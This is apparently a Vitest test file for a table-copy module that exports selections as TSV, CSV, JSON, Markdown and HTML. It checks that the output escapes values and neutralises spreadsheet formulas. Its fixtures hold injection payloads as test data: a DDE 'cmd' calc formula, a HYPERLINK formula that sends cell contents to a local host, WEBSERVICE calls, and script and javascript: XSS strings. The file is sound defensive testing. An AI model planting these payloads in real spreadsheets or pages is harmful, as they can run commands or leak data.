import { describe, expect, it } from 'vitest';
import { copyAs, detailsAs, type CopiedCells } from './copy-formats';

const cells: CopiedCells = {
  columns: [
    { key: 'id', label: 'ID' },
    { key: 'name', label: 'Name' },
    { key: 'mrr', label: 'MRR' },
  ],
  rows: [
    {
      shown: ['CUS-1', 'Dupont, "Père" & Fils', '-1,234.50'],
      raw: ['CUS-1', 'Dupont, "Père" & Fils', -1234.5],
    },
    { shown: ['CUS-2', '=HYPERLINK("x")', '12'], raw: ['CUS-2', '=HYPERLINK("x")', 12] },
    { shown: ['CUS-3', 'a|b\\c\td\nline <b>', ''], raw: ['CUS-3', 'a|b\\c\td\nline <b>', null] },
  ],
};

describe('copying a selection', () => {
  it('as shown: tab-separated, one line a row, each cell as the table writes it', () => {
    expect(copyAs('tsv', cells, ',').text).toBe(
      [
        'CUS-1\tDupont, "Père" & Fils\t-1,234.50',
        `CUS-2\t'=HYPERLINK("x")\t12`,
        'CUS-3\ta|b\\c d line <b>\t',
      ].join('\n'),
    );
    expect(copyAs('tsv', cells, ',').html).toBeUndefined();
  });

  it('as the API’s values, on request: the field keys, then each value as sent, on one line', () => {
    expect(
      copyAs(
        'raw',
        {
          ...cells,
          rows: [...cells.rows, { shown: ['x', '', ''], raw: ['x', { a: 1 }, '2026-11-28T13:42:00Z'] }],
        },
        ',',
      ).text.split('\n'),
    ).toEqual([
      'id\tname\tmrr',
      'CUS-1\tDupont, "Père" & Fils\t-1234.5',
      `CUS-2\t'=HYPERLINK("x")\t12`,
      'CUS-3\ta|b\\c d line <b>\t',
      'x\t{"a":1}\t2026-11-28T13:42:00Z',
    ]);
  });

  it('with headers: the labels first', () => {
    expect(copyAs('headers', cells, ',').text.split('\n')[0]).toBe('ID\tName\tMRR');
  });

  it('as CSV with the language’s delimiter, quoted where a cell holds it, a quote or a line break, formulas guarded as in exports', () => {
    expect(copyAs('csv', cells, ',').text.split('\r\n')).toEqual([
      'ID,Name,MRR',
      'CUS-1,"Dupont, ""Père"" & Fils","-1,234.50"',
      `CUS-2,"'=HYPERLINK(""x"")",12`,
      'CUS-3,"a|b\\c\td\nline <b>",',
    ]);
    expect(copyAs('csv', cells, ';').text.split('\r\n')[1]).toBe('CUS-1;"Dupont, ""Père"" & Fils";-1,234.50');
  });

  it('as JSON: the API’s own values by field key, null where there is none', () => {
    expect(JSON.parse(copyAs('json', cells, ',').text)).toEqual([
      { id: 'CUS-1', name: 'Dupont, "Père" & Fils', mrr: -1234.5 },
      { id: 'CUS-2', name: '=HYPERLINK("x")', mrr: 12 },
      { id: 'CUS-3', name: 'a|b\\c\td\nline <b>', mrr: null },
    ]);
  });

  it('as a Markdown table: pipes and backslashes escaped, each row on one line', () => {
    expect(copyAs('markdown', cells, ',').text.split('\n')).toEqual([
      '| ID | Name | MRR |',
      '| --- | --- | --- |',
      '| CUS-1 | Dupont, "Père" & Fils | -1,234.50 |',
      '| CUS-2 | =HYPERLINK("x") | 12 |',
      '| CUS-3 | a\\|b\\\\c d line \\<b\\> |  |',
    ]);
  });

  it('as an HTML table beside the text: every value escaped, never markup', () => {
    const copied = copyAs('html', cells, ',');
    expect(copied.text).toBe(copyAs('headers', cells, ',').text);
    const html = copied.html ?? '';
    expect(html).toMatch(/^<table[^>]*><thead><tr><th[^>]*>ID<\/th>/);
    expect(html).toContain('>Dupont, &quot;Père&quot; &amp; Fils</td>');
    expect(html).toContain('>a|b\\c\td<br>line &lt;b&gt;</td>');
    expect(html).not.toContain('<b>');
    expect(html.match(/<tr>/g)).toHaveLength(4);
  });

  describe('for a spreadsheet, which reads a pasted cell as if typed', () => {
    const planted: CopiedCells = {
      columns: [
        { key: 'name', label: '=cmd|x' },
        { key: 'note', label: 'Note' },
        { key: 'phone', label: 'Phone' },
        { key: 'mrr', label: 'MRR' },
      ],
      rows: [
        {
          shown: [
            '=HYPERLINK("http://127.0.0.1:9/?d="&B1,"Studio Moreau")',
            "@SUM(1+1)*cmd|' /C calc'!A0",
            '+33 1 23 45 67 89',
            '-5',
          ],
          raw: [
            '=HYPERLINK("http://127.0.0.1:9/?d="&B1,"Studio Moreau")',
            "@SUM(1+1)*cmd|' /C calc'!A0",
            '+33 1 23 45 67 89',
            -5,
          ],
        },
        {
          shown: ['\uFF1DIMAGE("x")', '-2+WEBSERVICE("x")', '+1 (555) 123-4567', '-12,50 €'],
          raw: ['\uFF1DIMAGE("x")', '-2+WEBSERVICE("x")', '+1 (555) 123-4567', '-12,50 €'],
        },
      ],
    };
    /** Every text a spreadsheet would be given, cell by cell, from the tab-separated and HTML flavours. */
    const pastedCells = (format: 'tsv' | 'headers' | 'raw' | 'html') => {
      const copied = copyAs(format, planted, ',');
      const html = copied.html ?? '';
      return [
        ...copied.text.split('\n').flatMap((line) => line.split('\t')),
        ...[...html.matchAll(/<t[hd][^>]*>(.*?)<\/t[hd]>/g)].map((match) =>
          (match[1] ?? '')
            .replace(/&quot;/g, '"')
            .replace(/&#39;/g, "'")
            .replace(/&amp;/g, '&'),
        ),
      ];
    };

    it('never holds a formula in any flavour a spreadsheet reads: the exports’ guard', () => {
      for (const format of ['tsv', 'headers', 'raw', 'html'] as const) {
        const live = pastedCells(format).filter((cell) => /^[=@\uFF1D]|^[+-].*[A-Za-z]/u.test(cell));
        expect(live, format).toEqual([]);
      }
      expect(copyAs('tsv', planted, ',').text.split('\n')[0]).toBe(
        `'=HYPERLINK("http://127.0.0.1:9/?d="&B1,"Studio Moreau")\t'@SUM(1+1)*cmd|' /C calc'!A0\t+33 1 23 45 67 89\t-5`,
      );
      expect(copyAs('headers', planted, ',').text.split('\n')[0]).toBe("'=cmd|x\tNote\tPhone\tMRR");
    });

    it('guards nothing for a leading tab or line break, which the copy folds into a space', () => {
      const cells: CopiedCells = {
        columns: [{ key: 'name', label: 'Name' }],
        rows: [{ shown: ['\tTabulations SA'], raw: ['\tTabulations SA'] }],
      };
      expect(copyAs('tsv', cells, ',').text).toBe('Tabulations SA');
      expect(copyAs('html', cells, ',').html).not.toContain("'");
    });

    it('keeps a phone’s + and a signed amount as they read', () => {
      const cellsOf = pastedCells('tsv');
      expect(cellsOf).toContain('+33 1 23 45 67 89');
      expect(cellsOf).toContain('+1 (555) 123-4567');
      expect(cellsOf).toContain('-12,50 €');
      expect(cellsOf).toContain('-5');
    });
  });

  it('as Markdown, a value’s links, images and HTML stay text', () => {
    const copied = copyAs(
      'markdown',
      {
        columns: [{ key: 'name', label: 'Name' }],
        rows: [
          { shown: ['<img src=x onerror=alert(1)></table><script>alert(2)</script>'], raw: [''] },
          {
            shown: ['[Open the contract](javascript:alert(1)) ![t](http://127.0.0.1:9/pixel.png) *a* `b`'],
            raw: [''],
          },
        ],
      },
      ',',
    ).text;
    // Every bracket, angle, star and backquote is escaped: none opens markup.
    expect(copied).not.toMatch(/(?<!\\)[<>[\]*`]/);
    expect(copied).toContain('\\[Open the contract\\](javascript:alert(1))');
  });
});

describe('copying a record for a person', () => {
  const fields = [
    { label: 'Name', text: 'Dupont & Fils' },
    { label: 'Email', text: '' },
    { label: 'Address', text: '1 rue <Haute>\nParis' },
  ];

  it('gives a line a field with a value, as the language writes it, and a table beside it', () => {
    const copied = detailsAs(fields, (label, value) => `${label}\u00a0: ${value}`);
    expect(copied.text).toBe('Name\u00a0: Dupont & Fils\nAddress\u00a0: 1 rue <Haute>\nParis');
    expect(copied.html).toMatch(
      /^<table[^>]*><tr><th[^>]*>Name<\/th><td[^>]*>Dupont &amp; Fils<\/td><\/tr><tr>/,
    );
    expect(copied.html).toContain('>1 rue &lt;Haute&gt;<br>Paris</td>');
    expect(copied.html).not.toContain('Email');
    // No inline style: the page's policy refuses them as the browser reads the clipboard's HTML.
    expect(copied.html).not.toContain('style');
  });
});
